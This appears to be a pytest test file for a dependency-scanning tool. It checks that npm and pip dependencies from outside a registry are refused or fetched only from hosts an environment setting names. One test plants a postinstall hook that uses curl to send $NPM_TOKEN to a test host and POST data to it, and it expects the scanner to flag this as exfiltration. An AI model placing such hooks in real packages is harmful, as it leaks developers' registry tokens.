"""Dependencies from outside of a registry: refused by name, or fetched truly from hosts that a setting names."""

from __future__ import annotations

import json
import os
from collections.abc import Iterator
from pathlib import Path

import pytest

from tests.support.code_host import CodeHost
from tests.support.hunter import npm_project, scan_json
from tests.support.requires import needs_btf, needs_program, needs_runc


@pytest.fixture
def host(tmp_path: Path) -> Iterator[CodeHost]:
    needs_btf()
    needs_runc()
    needs_program("git")
    made = CodeHost(tmp_path / "served")
    yield made
    made.close()


def _project(host: CodeHost, folder: Path, scripts: dict[str, str] | None = None) -> Path:
    needs = {
        "from-archive": f"http://{host.name}/from-archive-1.0.0.tgz",
        "from-git": f"git+http://{host.name}/from-git.git",
    }
    return npm_project(folder, "outside", scripts, dependencies=needs)


def test_what_may_not_be_fetched_is_named_and_no_decoy_stands_in(host: CodeHost, tmp_path: Path) -> None:
    report = scan_json(
        _project(host, tmp_path / "app"), codes=(4,), env={**os.environ, "http_proxy": host.proxy}
    )
    reasons = "\n".join(report["coverage"]["reasons"])
    named = [
        name
        for name in ("from-archive-1.0.0.tgz", "from-git.git")
        if f"{host.name}/{name} was not" in reasons
    ]
    assert named, reasons  # npm stops at the first that fails
    assert f"Name {host.name} in PACKAGE_HUNTER_FETCH_HOSTS" in reasons
    assert report["verdict"] == "inconclusive" and host.asked == []
    assert not report["packages"]


def test_an_allowed_hosts_files_and_repositories_are_fetched_and_told(host: CodeHost, tmp_path: Path) -> None:
    steal = (
        f'curl -s "http://{host.name}/x.tgz?t=$NPM_TOKEN"; curl -s -X POST http://{host.name}/up -d hi; true'
    )
    project = _project(host, tmp_path / "app", {"postinstall": steal})
    report = scan_json(
        project,
        codes=(0, 1),
        env={**os.environ, "http_proxy": host.proxy, "PACKAGE_HUNTER_FETCH_HOSTS": host.name},
    )
    assert {p["purl"].partition("@")[0] for p in report["packages"]} >= {
        "pkg:npm/from-archive",
        "pkg:npm/from-git",
    }
    assert report["coverage"]["reasons"] == []
    notes = "\n".join(report["coverage"]["notes"])
    assert (
        f"from-archive-1.0.0.tgz was fetched truly, {len(host.archive)} bytes (sha256 {host.digest})" in notes
    )
    assert f"{host.name}/from-git.git was fetched truly" in notes
    # reads only: neither the token nor the upload reached the host, and the theft is found all the same
    assert {method for method, url, _ in host.asked if "git-upload-pack" not in url} == {"GET"}
    assert not any("npm_" in json.dumps(row) or "/up" in row[1].replace("upload", "") for row in host.asked)
    assert {auth for _, _, auth in host.asked} == {None}
    assert any(f["kind"] == "exfiltration" for f in report["findings"])


def test_an_allowed_hosts_repository_is_fetched_built_and_loaded_by_pip(
    host: CodeHost, tmp_path: Path
) -> None:
    repository = f"git+http://{host.name}/from-git.git"
    (tmp_path / "app").mkdir()
    (tmp_path / "app/requirements.txt").write_text(f"{repository}\nother @ git+http://x{host.name}/o.git\n")
    environment = {**os.environ, "http_proxy": host.proxy, "PACKAGE_HUNTER_FETCH_HOSTS": host.name}
    report = scan_json(tmp_path / "app", codes=(4,), env=environment)
    assert [p["purl"] for p in report["packages"]] == ["pkg:pypi/from-git@1.0.0"]
    assert any(p["cmdline"].endswith("import from_git") for p in report["processes"])
    (reason,) = report["coverage"]["reasons"]
    assert reason.startswith("other (git+http://x") and f"Name x{host.name} in" in reason
    assert any(f"{host.name}/from-git.git was fetched truly" in note for note in report["coverage"]["notes"])
    assert [f["title"] for f in report["findings"] if f["severity"] != "info"] == []
